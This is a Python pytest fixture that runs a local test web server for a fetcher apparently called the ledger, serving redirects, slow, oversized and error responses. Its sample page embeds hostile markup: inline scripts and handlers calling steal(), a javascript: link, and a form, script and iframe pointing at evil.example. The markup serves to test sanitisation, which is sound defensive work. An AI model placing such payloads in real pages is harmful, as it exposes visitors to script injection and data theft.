"""A local web server for the ledger's tests, on 127.0.0.1, that plays every kind of site:
a page, a 404, a redirect chain, a slow answer, an oversized one, and redirects inward."""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

PAGE = b"""<!DOCTYPE html><html><head><title>Release</title><script>alert("head")</script>
<style>body{color:red}</style></head><body onload="steal()">
<h1>Justice Department announces charges</h1>
<p onclick="steal()">Four people were charged on <a href="javascript:steal()">Tuesday</a>.</p>
<form action="https://evil.example/collect"><input name="q"><button>Send</button></form>
<script src="https://evil.example/tracker.js"></script>
<p>Read the <a href="https://www.justice.gov/opa">full statement</a>.</p>
<iframe src="https://evil.example/frame"></iframe></body></html>"""
BIG = 6 * 1024 * 1024


class Site(BaseHTTPRequestHandler):
    routes = {}
    requests = []

    def log_message(self, *args):
        pass

    def send(self, status, body=b"", content_type="text/html; charset=utf-8", headers=()):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.requests.append({"path": self.path, "user_agent": self.headers.get("User-Agent")})
        path = self.path
        if path in self.routes:  # a test's own answer: (status, location)
            status, location = self.routes[path]
            return self.send(status, headers=[("Location", location)] if location else [])
        if path == "/page":
            return self.send(200, PAGE)
        if path == "/missing":
            return self.send(404, b"<p>Not found</p>")
        if path == "/removed":
            return self.send(410, b"<p>Gone</p>")
        if path == "/forbidden":
            return self.send(403, b"<p>No robots</p>")
        if path.startswith("/hop/"):
            n = int(path.rsplit("/", 1)[1])
            location = f"/hop/{n - 1}" if n > 1 else "/page"
            return self.send(302 if n % 2 else 301, headers=[("Location", location)])
        if path.startswith("/loop/"):
            n = int(path.rsplit("/", 1)[1])
            return self.send(302, headers=[("Location", f"/loop/{n + 1}")])
        if path == "/slow":
            time.sleep(1.5)
            return self.send(200, b"<p>Late</p>")
        if path == "/drip":  # a byte of headers now and then, never the end of them
            self.wfile.write(b"HTTP/1.1 200 OK\r\n")
            for _ in range(100):
                self.wfile.write(b"X")
                self.wfile.flush()
                time.sleep(0.2)
            return None
        if path == "/big":
            return self.send(200, b"<p>" + b"x" * BIG + b"</p>")
        if path == "/big-unannounced":  # no Content-Length: the size shows only while reading
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            for _ in range(BIG // 65536 + 2):
                self.wfile.write(b"y" * 65536)
            return None
        if path == "/report.pdf":
            return self.send(200, b"%PDF-1.4\n% a tiny document\n%%EOF\n", "application/pdf")
        if path == "/photo.png":
            return self.send(200, b"\x89PNG\r\n", "image/png")
        return self.send(404)


class QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        pass  # the fetcher hangs up on oversized and slow answers: that is the point


@pytest.fixture
def site(settings):
    """The running server: `site.url(path)`, `site.requests`, `site.routes[path] = (status, location)`."""
    settings.LEDGER_FETCH_ALLOW_TEST_LOOPBACK = True
    settings.LEDGER_HOST_DELAY = 0
    settings.LEDGER_FETCH_READ_TIMEOUT = 0.5
    settings.LEDGER_FETCH_CONNECT_TIMEOUT = 1
    handler = type("TestSite", (Site,), {"routes": {}, "requests": []})
    server = QuietServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    server.url = lambda path: f"http://127.0.0.1:{server.server_port}{path}"
    server.routes, server.requests = handler.routes, handler.requests
    yield server
    server.shutdown()
    server.server_close()
